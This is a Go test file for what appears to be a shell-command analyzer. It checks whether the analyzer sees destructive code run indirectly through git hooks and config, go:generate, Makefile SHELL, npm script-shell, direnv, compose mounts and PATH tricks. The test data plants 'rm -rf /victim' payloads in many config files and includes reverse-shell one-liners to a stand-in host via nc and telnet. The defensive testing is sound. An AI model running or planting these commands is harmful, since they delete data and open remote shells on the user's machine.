package syntax

import "testing"

// TestProgramsRunTheirFiles: files a command changes before a runner reads
// them, and the programs the go command, make and git run besides their
// own work. Each case names rm -rf /victim (corral must see it run) or
// leaves hidden code that asks; the look-alikes do neither.
func TestProgramsRunTheirFiles(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	writeFiles(t, dir, map[string]string{
		"package.json":                `{"scripts": {"test": "echo ok"}}`,
		"Makefile":                    "all:\n\techo hi\n",
		"x.sh":                        "rm -rf /victim\n",
		"gen/gen.go":                  "package gen\n\n//go:generate sh -c \"rm -rf /victim\"\n",
		"gen/sub/more.go":             "package sub\n//go:generate -command zap rm -rf\n//go:generate zap /victim\n",
		"ok/ok.go":                    "package ok\n//go:generate stringer -type=T\n",
		"tpl/hooks/post-checkout":     "rm -rf /victim\n",
		"tpl/hooks/pre-commit.sample": "rm -rf /victim\n",
		// Compose files: a service mounting the home directory (the
		// test's home is /home/u) whose command deletes under it; the
		// long volume form with an entrypoint; a development service.
		"home.yml":    "services:\n  x:\n    image: alpine\n    volumes: [\"~/victim:/h\"]\n    command: rm -rf /h\n",
		"long.yml":    "services:\n  x:\n    image: alpine\n    volumes:\n      - type: bind\n        source: /home/u/victim\n        target: /h\n    entrypoint: [\"sh\", \"-c\", \"rm -rf /h\"]\n",
		"plain.yml":   "services:\n  app:\n    image: alpine\n    volumes:\n      - /home/u/victim:/h\n",
		"runme":       "rm -rf /victim\n",
		"gitcfg":      "[alias]\n\tx = !rm -rf /victim\n",
		".gitconfig":  "[core]\n\tpager = rm -rf /victim\n",
		"git/config":  "[core]\n\tfsmonitor = rm -rf /victim\n",
		"plain.cfg":   "[user]\n\tname = Someone\n",
		"app.ts":      "import { rmSync } from 'fs'\nrmSync('/victim', { recursive: true })\n",
		"env":         "rm -rf /victim\n",
		"bin/tool":    "rm -rf /victim\n",
		"dev.yml":     "services:\n  app:\n    build: .\n    volumes:\n      - ./src:/app/src\n      - data:/data\n    command: npm start\n",
		"rc/.envrc":   "rm -rf /victim\n",
		"okrc/.envrc": "export PATH=$PWD/bin:$PATH\n",
	})
	for _, tc := range []struct {
		cmd      string
		rm, asks bool
	}{
		// direnv allow trusts a .envrc that then runs in the user's
		// shell; direnv exec DIR runs DIR's first.
		{`direnv allow rc`, true, false},
		{`cd rc && direnv allow`, true, false},
		{`direnv grant rc/.envrc`, true, false},
		{`direnv exec rc make`, true, false},
		{`direnv allow "$D"`, false, true},
		{`direnv allow okrc`, false, false},
		{`direnv status`, false, false},
		{`npm pkg set scripts.test='rm -rf /victim'; npm test`, true, false},
		{`npm pkg set scripts.test="$X" && npm test`, false, true},
		{`sed -i 's/echo hi/rm -rf \/victim/' Makefile && make`, false, true},
		{`perl -pi -e 's/echo/rm/' Makefile; make`, false, true},
		{`jq '.scripts.test="x"' package.json > p && mv p package.json && npm test`, false, true},
		// A named pipe made by the command carries what another
		// process writes at run time (the reverse shell's loop).
		{`mkfifo f; sh < f`, false, true},
		{`rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h.example 4444 > /tmp/f`, false, true},
		{`mknod /tmp/p p && bash -i < /tmp/p 2>&1 | telnet h 80 > /tmp/p`, false, true},
		{`mkfifo -m 600 q; bash < q`, false, true},
		{`mkfifo p; sort < p`, false, false},
		{`mkfifo p; cat p`, false, false},
		{`mknod /tmp/null c 1 3; bash x.sh`, true, false},
		{`make SHELL=./x.sh`, true, false},
		{`printf 'SHELL := ./x.sh\nall:\n\techo\n' > Makefile.x; make -f Makefile.x`, true, false},
		{`make SHELL=$S`, false, true},
		{`MAKEFLAGS=SHELL=./x.sh make`, true, false},
		{`export GNUMAKEFLAGS='SHELL=./x.sh'; make -s`, true, false},
		{`go build -toolexec ./x.sh .`, true, false},
		{`GOFLAGS='-toolexec=./x.sh' go build ./...`, true, false},
		{`go test -exec ./x.sh ./...`, true, false},
		{`go vet -vettool=./x.sh ./...`, true, false},
		{`cd gen && go generate`, true, false},
		{`go generate ./gen/...`, true, false},
		{`go generate gen/sub/more.go`, true, false},
		{`git clone --template=tpl https://example.com/r.git`, true, false},
		{`git clone --templ tpl https://example.com/r.git`, true, false},
		{`GIT_TEMPLATE_DIR=tpl git clone https://example.com/r.git`, true, false},
		{`git -c init.templateDir=tpl init new`, true, false},
		{`git clone --template=$T https://example.com/r.git`, false, true},
		{`npm config set script-shell ./x.sh`, true, false},
		{`npm config set script-shell=./x.sh --location=project`, true, false},
		{`pnpm config set node-options '--require ./x.js'`, false, true},
		{`docker compose -f home.yml up -d`, true, false},
		{`docker-compose -f long.yml up`, true, false},
		{`docker compose -f plain.yml run app rm -rf /h`, true, false},
		{`docker --context remote -H unix:///run/d.sock compose -f home.yml up`, true, false},
		{`nerdctl compose -f home.yml up`, true, false},
		{`COMPOSE_FILE=dev.yml:home.yml docker compose up`, true, false},
		{`COMPOSE_FILE=$F docker compose up`, false, true},
		{`go -C gen generate`, true, false},
		{`go generate -C gen`, true, false},
		{`PATH=.:$PATH runme`, true, false},
		{`export PATH="$PWD/bin:$PATH"; tool`, true, false},
		{`echo 'rm -rf /victim' > ls; chmod +x ls; PATH=.:$PATH ls`, true, false},
		{`PATH=/usr/bin:.:$PATH runme`, true, false}, // not in /usr/bin: ./runme runs
		{`env PATH=.:$PATH runme`, true, false},
		{`sudo PATH=. runme`, true, false},
		{`PATH=.:$PATH nice runme`, true, false},
		{`GIT_CONFIG_GLOBAL=./gitcfg git x`, true, false},
		{`GIT_CONFIG_SYSTEM=gitcfg git status`, true, false},
		{`HOME=. git log`, true, false},
		{`XDG_CONFIG_HOME=. git status`, true, false},
		{`GIT_CONFIG_GLOBAL=$G git status`, false, true},
		{`tsx app.ts`, true, false},
		{`ts-node app.ts`, true, false},
		{`npx tsx app.ts`, true, false},
		{`pnpm dlx ts-node app.ts`, true, false},
		{`deno app.ts`, true, false},
		{`tsx watch app.ts`, true, false},
		// Look-alikes.
		{`npx eslint app.ts`, false, false},
		{`deno fmt app.ts`, false, false},
		{`GIT_CONFIG_GLOBAL=/dev/null git status`, false, false},
		{`GIT_CONFIG_GLOBAL=plain.cfg git commit -m x`, false, false},
		{`PATH=.:$PATH ls`, false, false},
		{`PATH=/usr/bin:.:$PATH env`, false, false}, // /usr/bin/env is found first
		{`npm set script-shell /bin/bash`, false, false},
		{`docker compose -f dev.yml up`, false, false},
		{`docker compose -f home.yml down`, false, false},
		{`npm pkg set scripts.test=jest; npm test`, false, false},
		{`sed -i 's/a/b/' README.md; make`, false, false},
		{`make SHELL=/bin/bash`, false, false},
		{`MAKEFLAGS=SHELL=/bin/bash make`, false, false},
		{`go build -o app .`, false, false},
		{`go generate ./ok/...`, false, false},
		{`cd gen && go generate -n`, false, false},
		{`git clone https://example.com/r.git`, false, false},
	} {
		m, err := Analyze(tc.cmd, Options{Cwd: dir, Home: "/home/u", ReadFile: ReadScript})
		if err != nil {
			t.Fatal(err)
		}
		// In a container, /h is the mount of /home/u/victim, and the
		// command is judged with the host's paths.
		rm := removes(m, "/victim", "/home/u/victim")
		asks := false
		for _, h := range m.Hidden {
			asks = asks || h.Always
		}
		if rm != tc.rm || asks != tc.asks {
			t.Errorf("%s: rm -rf /victim seen = %v, asks = %v; want %v, %v", tc.cmd, rm, asks, tc.rm, tc.asks)
		}
	}
}
